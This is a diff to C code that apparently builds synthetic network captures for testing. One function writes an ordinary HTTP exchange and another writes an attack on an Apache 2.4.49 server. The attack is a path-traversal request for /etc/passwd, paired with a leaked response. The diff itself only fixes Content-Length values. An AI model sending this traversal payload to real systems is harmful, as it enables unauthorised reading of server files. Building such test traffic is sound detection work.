@@ -98,7 +98,7 @@ static void write_benign(struct pg_writer *w, uint64_t t0)
                               "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0\r\n"
                               "Accept: text/html\r\n\r\n";
     static const char resp[] = "HTTP/1.1 200 OK\r\nServer: Apache/2.4.49 (Unix)\r\n"
-                               "Content-Type: text/html\r\nContent-Length: 46\r\n\r\n"
+                               "Content-Type: text/html\r\nContent-Length: 47\r\n\r\n"
                                "<html><body>Cong dich vu cong</body></html>\r\n\r\n";
     dns_exchange(w, t0, "10.20.3.14", "10.10.0.53", 0x1a2b, "portal.hcmc.example", "10.10.1.5");
     uint64_t ts = t0 + 2 * SEC;
@@ -134,7 +134,7 @@ static void write_exploit(struct pg_writer *w, uint64_t t0)
     static const char req[] = "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\n"
                               "Host: 10.10.1.5\r\nUser-Agent: curl/7.68.0\r\nAccept: */*\r\n\r\n";
     static const char resp[] = "HTTP/1.1 200 OK\r\nServer: Apache/2.4.49 (Unix)\r\n"
-                               "Content-Type: text/plain\r\nContent-Length: 66\r\n\r\n"
+                               "Content-Type: text/plain\r\nContent-Length: 64\r\n\r\n"
                                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/bin/sh\n";
     uint64_t ts = t0;
     http_exchange(w, &ts, "198.51.100.23", 61022, "10.10.1.5", 80, req, sizeof(req) - 1, resp,
